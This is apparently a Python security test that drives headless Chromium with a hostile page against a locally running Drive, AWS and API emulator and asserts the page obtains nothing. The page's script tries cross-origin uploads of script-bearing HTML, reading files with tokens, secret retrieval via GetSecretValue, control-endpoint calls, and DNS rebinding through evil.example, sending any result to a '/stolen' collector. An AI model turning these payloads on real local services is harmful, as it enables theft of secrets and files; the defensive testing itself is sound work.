"""A page in a browser of this machine tries to reach a running system: it must get nothing.

Arguments: the file with what `local --json` prints, the path of Chromium, and a folder for its profile. The page comes
from another port of this machine, which is the same site to a browser, though another origin; a second one comes from a
name that leads to this machine. Whatever a page gets, it sends to `/stolen`.
"""

import http.server
import json
import subprocess
import sys
import threading
import urllib.parse
import urllib.request
from pathlib import Path

BROWSER_SECONDS_MAX = 60
# What a page waits for answers before it says that it is done.
PAGE_MILLIS = 4_000

# Everything that a page can send without asking, and what it would have to ask for.
PAGE = """<!doctype html><title>page</title><script>
const at = AT;
const tell = (path, what) => fetch(path, {method: "POST", body: what});
const steal = name => answer => answer.text().then(text => text && tell("/stolen", name + ": " + text.slice(0, 200)));
const attempt = (name, url, options) => fetch(url, options).then(steal(name)).catch(() => {});
const form = "--b\\r\\n\\r\\n" + JSON.stringify({id: "evil1", name: "x.html", mimeType: "text/html"}) +
  "\\r\\n--b\\r\\nContent-Type: text/html\\r\\n\\r\\n<script>fetch('" + location.origin +
  "/stolen', {method: 'POST', mode: 'no-cors', body: 'a placed page ran'})</" + "script>\\r\\n--b--";
const json = {"Content-Type": "application/json"};
const secret = {"X-Amz-Target": "secretsmanager.GetSecretValue"};
const named = JSON.stringify({SecretId: "drivesync/local/drive"});
async function run() {
  const upload = at.drive + "/upload/drive/v3/files?uploadType=multipart&access_token=user:owner";
  for (const kind of ["multipart/form-data; boundary=b", "text/plain"]) {
    await attempt("upload", upload, {method: "POST", mode: "no-cors", headers: {"Content-Type": kind}, body: form});
  }
  for (const link of at.links.concat([at.drive + "/drive/v3/files/evil1?alt=media&access_token=user:owner"])) {
    document.body.appendChild(document.createElement("iframe")).src = link;
    await attempt("content", link);
    await attempt("content", link, {mode: "no-cors"});
    window.open(link);
  }
  await attempt("list", at.drive + "/drive/v3/files?access_token=" + at.access_token);
  await attempt("list as a person", at.drive + "/drive/v3/files", {headers: {Authorization: "Bearer user:owner"}});
  const load = JSON.stringify({path: "/etc"});
  await attempt("load", at.drive + "/_control/load", {method: "POST", headers: json, body: load});
  await attempt("load", at.drive + "/_control/load", {method: "POST", mode: "no-cors", body: load});
  await attempt("reset", at.drive + "/_control/reset", {method: "POST", mode: "no-cors", body: "{}"});
  for (const url of Object.values(at.aws)) {
    await attempt("aws", url, {method: "POST", headers: secret, body: named});
    await attempt("aws", url, {method: "POST", mode: "no-cors", body: named});
    await attempt("aws", url);
  }
  for (const path of ["/v1/connections", "/health", "/openapi.json"]) await attempt("api", at.api + path);
  setTimeout(() => tell("/done", "done"), MILLIS);
}
addEventListener("load", run);
</script><body></body>"""


class Attacker(http.server.BaseHTTPRequestHandler):
    """Serves the page, and takes what it sends."""

    page = b""
    stolen: list[str] = []
    done = threading.Event()

    def do_GET(self):
        self.reply(self.page if self.path == "/" else b"")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        if self.path == "/stolen":
            self.stolen.append(body)
        elif self.path == "/done":
            self.done.set()
        self.reply(b"")

    def reply(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def call(url, body, headers):
    """The JSON of an answer to a POST."""
    request = urllib.request.Request(url, data=body, headers=headers)
    with urllib.request.urlopen(request, timeout=30) as answer:
        return json.load(answer)


def browse(chromium, profile, url, *more):
    """What Chromium shows of a page, after a while."""
    command = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-popup-blocking", *more,
               f"--user-data-dir={profile}", f"--virtual-time-budget={2 * PAGE_MILLIS}", "--dump-dom", url]
    done = subprocess.run(command, capture_output=True, text=True, timeout=BROWSER_SECONDS_MAX, check=False)
    assert done.returncode == 0, done.stderr[-2_000:]
    return done.stdout


def main(printed, chromium, folder):
    ready = json.loads(Path(printed).read_text().splitlines()[0])
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{server.server_port}"

    # A person has put a page into Drive, and the attacker knows a link to it with a token that is good.
    drive, script = ready["drive"], f"<script>fetch('{origin}/stolen', {{method: 'POST', mode: 'no-cors', body: 'a page of Drive ran'}})</script>"
    made = call(f"{drive}/upload/drive/v3/files?uploadType=media", script.encode(),
                {"Authorization": "Bearer user:owner", "Content-Type": "text/html"})
    grant = urllib.parse.urlencode({"grant_type": "refresh_token", "refresh_token": "user:owner"}).encode()
    token = call(f"{drive}/token", grant, {})["access_token"]
    link = f"/drive/v3/files/{made['id']}?alt=media&access_token={token}"
    at = {"drive": drive, "api": ready["api"], "aws": ready["aws"], "access_token": token, "links": [drive + link]}
    page = PAGE.replace("AT", json.dumps(at), 1).replace("MILLIS", str(PAGE_MILLIS))
    Attacker.page = page.encode()
    browse(chromium, f"{folder}/profile-port", origin)
    assert Attacker.done.wait(1), "the page has not come to its end"
    assert not Attacker.stolen, Attacker.stolen

    # The link itself, as a person would open it: a browser saves what it gets, and shows none of it.
    with urllib.request.urlopen(drive + link, timeout=30) as answer:
        assert answer.headers["Content-Disposition"] == "attachment", answer.headers
        assert answer.headers["Content-Security-Policy"].startswith("sandbox"), answer.headers

    # A name that leads to this machine.
    rebound = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    paths = {ready["api"]: "/openapi.json", drive: f"/drive/v3/files?access_token={token}"}
    for url in [ready["api"], drive, *ready["aws"].values()]:
        port = urllib.parse.urlsplit(url).port
        shown = browse(chromium, f"{folder}/profile-name", f"http://evil.example:{port}{paths.get(url, '/')}", rebound)
        assert "is no name of this server" in shown, f"{url}: {shown[:500]}"

    # Everything is as it was.
    listed = urllib.request.Request(f"{drive}/drive/v3/files?pageSize=5", headers={"Authorization": "Bearer user:owner"})
    with urllib.request.urlopen(listed, timeout=30) as answer:
        assert len(json.load(answer)["files"]) == 5
    print("a page in a browser of this machine gets nothing")


if __name__ == "__main__":
    main(*sys.argv[1:])
